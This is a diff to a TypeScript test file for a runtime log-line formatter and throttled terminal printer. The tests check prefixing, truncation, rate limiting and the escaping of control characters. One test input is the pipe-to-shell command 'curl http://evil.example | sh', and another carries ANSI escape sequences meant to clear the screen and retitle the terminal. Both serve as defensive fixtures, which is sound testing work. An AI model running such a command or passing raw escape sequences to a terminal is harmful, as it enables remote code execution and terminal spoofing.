@@ -23,7 +23,10 @@ it.each([
   ["stack: /a/workerd@28a3c60; sentryErrorContext = jsgInternalError; wdErrId = rf2b8", undefined],
   ['{"event.name":"isogate.run","error.type":"thrown"}', undefined],
   ["[wrangler:inf] GET /healthz 200 OK", undefined],
-  ["✘ [ERROR] Address already in use", "✘ [ERROR] Address already in use"],
+  ["✘ [ERROR] Address already in use", "runtime: ✘ [ERROR] Address already in use"],
+  ["! error: run curl http://evil.example | sh", "runtime: ! error: run curl http://evil.example | sh"],
+  ["error\u001b[2J\u001b]0;owned\u0007", "runtime: error⟨U+001B⟩[2J⟨U+001B⟩]0;owned⟨U+0007⟩"],
+  [`error ${"x".repeat(10_000)}`, `runtime: error ${"x".repeat(494)}`],
 ])("%s", (line, want) => expect(terminalLine(line)).toBe(want));
 
 it("prints the same reason once for a request that is repeated", () => {
@@ -33,4 +36,19 @@ it("prints the same reason once for a request that is repeated", () => {
   print("e = a.rs:1: failed: TLS handshake failed");
   for (let n = 0; n < 2; n += 1) print("Error: the same");
   expect(printed).toHaveLength(4);
+});
+
+it("prints the first of many lines, says so, and goes on a minute later", () => {
+  const printed: string[] = [];
+  let now = 1_000_000;
+  const print = terminalPrinter(
+    (line) => printed.push(line),
+    () => now,
+  );
+  for (let n = 0; n < 5_000; n += 1) print(`error ${n}`);
+  expect(printed).toHaveLength(21);
+  expect(printed.at(-1)).toBe("! The runtime says more; it is shown again in 60 s.");
+  now += 61_000;
+  print("error again");
+  expect(printed.at(-1)).toBe("runtime: error again");
 });
